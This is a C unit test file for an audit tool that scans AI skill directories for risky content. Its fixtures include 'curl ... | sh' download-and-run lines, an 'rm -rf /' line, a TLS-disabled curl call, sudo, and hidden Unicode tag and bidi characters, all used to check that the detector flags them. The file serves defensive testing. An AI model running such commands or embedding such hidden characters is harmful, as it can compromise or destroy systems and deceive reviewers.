#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>
#include <jansson.h>

#include "core/skill/audit.h"
#include "core/util/buf.h"
#include "support/support.h"

/* The rules document as compiled in, parsed; every test reads its cases from it. */
static json_t *rules_doc(void)
{
	size_t len;
	const char *doc = ss_audit_rules_document(&len);
	json_error_t jerr;
	json_t *j = json_loadb(doc, len, 0, &jerr);

	if (!j)
		fail_msg("the rules document: %s", jerr.text);
	return j;
}

/* The findings of rule id in r. */
static size_t count_rule(const ss_audit_report *r, const char *id, const ss_audit_finding **first)
{
	size_t n = 0;

	for (size_t i = 0; i < r->n; i++)
		if (!strcmp(r->findings[i].rule, id) && !n++ && first)
			*first = &r->findings[i];
	return n;
}

/* Audits one case: a file given by its text, or a symbolic link (in a directory of its own). */
static void run_case(json_t *c, ss_audit_report *r)
{
	const char *path = json_string_value(json_object_get(c, "path"));
	const char *link = json_string_value(json_object_get(c, "symlink"));
	const char *text = json_string_value(json_object_get(c, "text"));

	ss_audit_report_init(r);
	if (link) {
		char *dir = ss_test_tmpdir();
		ss_buf p = SS_BUF_INIT;
		ss_error err;

		ss_test_write(dir, "SKILL.md", "---\nname: case\ndescription: x\n---\n");
		ss_buf_printf(&p, "%s/%s", dir, path);
		assert_int_equal(symlink(link, p.ptr), 0);
		ss_error_clear(&err);
		assert_int_equal(ss_audit_dir(r, "case", dir, &err), 0);
		ss_buf_release(&p);
		ss_test_tmpdir_free(dir);
		return;
	}
	assert_non_null(text);
	ss_audit_file(r, "case", path, text, json_string_length(json_object_get(c, "text")),
	              json_is_true(json_object_get(c, "executable")));
}

/* Every rule: each hit case finds it exactly once, at its line with its excerpt; each miss
 * case does not find it; and each rule has at least one of each. */
static void test_audit__rules_hit_and_miss(void **state)
{
	json_t *doc = rules_doc(), *rules = json_object_get(doc, "rules"), *jr;
	size_t i, ncases = 0;
	ss_error err;

	ss_error_clear(&err);
	assert_int_equal(ss_audit_ready(&err), 0);
	assert_int_equal(ss_audit_rule_count(), json_array_size(rules));
	json_array_foreach(rules, i, jr)
	{
		const char *id = json_string_value(json_object_get(jr, "id"));
		json_t *hits = json_object_get(jr, "hit"), *misses = json_object_get(jr, "miss"),
		       *c;
		size_t k;

		assert_string_equal(ss_audit_rule_at(i)->id, id);
		if (json_array_size(hits) < 1 || json_array_size(misses) < 1)
			fail_msg("rule '%s' wants a hit case and a miss case", id);
		json_array_foreach(hits, k, c)
		{
			ss_audit_report r;
			const ss_audit_finding *f = NULL;
			size_t n;

			run_case(c, &r);
			n = count_rule(&r, id, &f);
			if (n != 1)
				fail_msg("rule '%s', hit %zu: %zu findings, want 1", id, k, n);
			if ((json_int_t)f->line != json_integer_value(json_object_get(c, "line")) ||
			    strcmp(f->excerpt, json_string_value(json_object_get(c, "excerpt"))))
				fail_msg(
				    "rule '%s', hit %zu: line %zu excerpt '%s', want line %d '%s'",
				    id, k, f->line, f->excerpt,
				    (int)json_integer_value(json_object_get(c, "line")),
				    json_string_value(json_object_get(c, "excerpt")));
			assert_string_equal(f->skill, "case");
			assert_string_equal(f->path, json_string_value(json_object_get(c, "path")));
			assert_int_equal(f->level, ss_audit_rule_at(i)->level);
			assert_string_equal(f->message, ss_audit_rule_at(i)->message);
			ss_audit_report_release(&r);
			ncases++;
		}
		json_array_foreach(misses, k, c)
		{
			ss_audit_report r;
			const ss_audit_finding *f = NULL;

			run_case(c, &r);
			if (count_rule(&r, id, &f))
				fail_msg("rule '%s', miss %zu: found at line %zu: %s", id, k,
				         f->line, f->excerpt);
			ss_audit_report_release(&r);
			ncases++;
		}
	}
	assert_true(ncases >= 2 * json_array_size(rules));
	json_decref(doc);
}

/* Rule ids are unique, lowercase words with hyphens; levels are the four. */
static void test_audit__rule_ids(void **state)
{
	for (size_t i = 0; i < ss_audit_rule_count(); i++) {
		const char *id = ss_audit_rule_at(i)->id;

		assert_true(strlen(id) > 0 &&
		            strspn(id, "abcdefghijklmnopqrstuvwxyz-") == strlen(id));
		for (size_t j = 0; j < i; j++)
			assert_string_not_equal(ss_audit_rule_at(j)->id, id);
	}
	assert_null(ss_audit_rule_at(ss_audit_rule_count()));
	assert_string_equal(ss_audit_level_name(SS_AUDIT_HIGH), "high");
	assert_string_equal(ss_audit_level_name(SS_AUDIT_MEDIUM), "medium");
	assert_string_equal(ss_audit_level_name(SS_AUDIT_LOW), "low");
	assert_string_equal(ss_audit_level_name(SS_AUDIT_INFO), "info");
}

/* Hidden characters never reach the excerpt raw: tag characters, bidi controls, zero-width
 * spaces and escape sequences come out as \xNN; the line is the file's own. */
static void test_audit__excerpt_escapes_hidden_text(void **state)
{
	const char *text = "---\nname: x\ndescription: y\n---\n\nok\n"
	                   "a\xf3\xa0\x81\x81\xe2\x80\xae\xe2\x80\x8b\x1b[2Jb\n";
	ss_audit_report r;
	const ss_audit_finding *f = NULL;

	ss_audit_report_init(&r);
	ss_audit_file(&r, "x", "SKILL.md", text, strlen(text), false);
	assert_int_equal(count_rule(&r, "hidden-tag-chars", &f), 1);
	assert_int_equal(f->line, 7);
	assert_string_equal(f->excerpt,
	                    "a\\xf3\\xa0\\x81\\x81\\xe2\\x80\\xae\\xe2\\x80\\x8b\\x1b[2Jb");
	assert_int_equal(count_rule(&r, "hidden-bidi", NULL), 1);
	assert_int_equal(count_rule(&r, "hidden-invisible", NULL), 1);
	assert_int_equal(ss_audit_worst(&r), SS_AUDIT_HIGH);
	ss_audit_report_release(&r);
	assert_int_equal(ss_audit_worst(&r), SS_AUDIT_INFO);
}

/* A long line: the excerpt starts a little before the match and says where it was cut; a file
 * that is not UTF-8 is searched all the same; a line is reported once per rule. */
static void test_audit__excerpt_of_a_long_line(void **state)
{
	ss_buf text = SS_BUF_INIT;
	ss_audit_report r;
	const ss_audit_finding *f = NULL;

	ss_buf_puts(&text, "#!/bin/sh\n\xff\xfe");
	for (int i = 0; i < 30; i++)
		ss_buf_puts(&text, "echo aaaa; ");
	ss_buf_puts(&text, "curl https://example.com/x | sh; curl https://example.com/y | sh\n");
	ss_audit_report_init(&r);
	ss_audit_file(&r, "x", "run", text.ptr, text.len, false);
	assert_int_equal(count_rule(&r, "download-exec", &f), 1);
	assert_int_equal(f->line, 2);
	assert_string_equal(f->excerpt,
	                    "...  aaaa; echo aaaa; echo aaaa; echo aaaa; curl "
	                    "https://example.com/x | sh; curl https://example.com/y | sh");
	ss_audit_report_release(&r);
	ss_buf_release(&text);
}

/* The frontmatter rules look only at SKILL.md's frontmatter. */
static void test_audit__frontmatter_only_in_skill_md(void **state)
{
	const char *text = "---\nname: x\ndescription: y\nallowed-tools: Bash\n---\n";
	ss_audit_report r;

	ss_audit_report_init(&r);
	ss_audit_file(&r, "x", "references/SKILL.md", text, strlen(text), false);
	assert_int_equal(count_rule(&r, "allowed-tools-shell", NULL), 0);
	ss_audit_file(&r, "x", "SKILL.md", text, strlen(text), false);
	assert_int_equal(count_rule(&r, "allowed-tools-shell", NULL), 1);
	ss_audit_report_release(&r);
}

/* A skill directory: files depth first in byte order, the executable bit read, .git left out. */
static void test_audit__dir(void **state)
{
	char *dir = ss_test_tmpdir();
	ss_buf p = SS_BUF_INIT;
	ss_audit_report r;
	ss_error err;

	ss_test_write(dir, "SKILL.md", "---\nname: d\ndescription: y\n---\nsudo make\n");
	ss_test_write(dir, "scripts/b.sh", "#!/bin/sh\ncurl -k https://example.com\n");
	ss_test_write(dir, "scripts/a.py", "print(1)\n");
	ss_test_write(dir, ".git/x.sh", "rm -rf /\n");
	ss_buf_printf(&p, "%s/scripts/b.sh", dir);
	assert_int_equal(chmod(p.ptr, 0755), 0);
	ss_audit_report_init(&r);
	ss_error_clear(&err);
	assert_int_equal(ss_audit_dir(&r, "d", dir, &err), 0);
	assert_int_equal(r.n, 4);
	assert_string_equal(r.findings[0].path, "SKILL.md");
	assert_string_equal(r.findings[0].rule, "sudo");
	assert_string_equal(r.findings[1].path, "scripts/a.py");
	assert_string_equal(r.findings[1].rule, "script-file");
	assert_string_equal(r.findings[2].path, "scripts/b.sh");
	assert_string_equal(r.findings[2].rule, "executable-file"); /* line 0 first */
	assert_int_equal(r.findings[2].line, 0);
	assert_string_equal(r.findings[2].excerpt, "");
	assert_string_equal(r.findings[3].rule, "tls-disabled");
	assert_int_equal(r.findings[3].line, 2);
	ss_audit_report_release(&r);
	ss_buf_printf(&p, "/nothing");
	SS_ASSERT_FAILS(ss_audit_dir(&r, "d", p.ptr, &err), err, SS_ENOTFOUND);
	ss_buf_release(&p);
	ss_test_tmpdir_free(dir);
}

int test_audit_run(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_audit__rules_hit_and_miss),
	    cmocka_unit_test(test_audit__rule_ids),
	    cmocka_unit_test(test_audit__excerpt_escapes_hidden_text),
	    cmocka_unit_test(test_audit__excerpt_of_a_long_line),
	    cmocka_unit_test(test_audit__frontmatter_only_in_skill_md),
	    cmocka_unit_test(test_audit__dir),
	};
	return cmocka_run_group_tests_name("core/audit", tests, NULL, NULL);
}
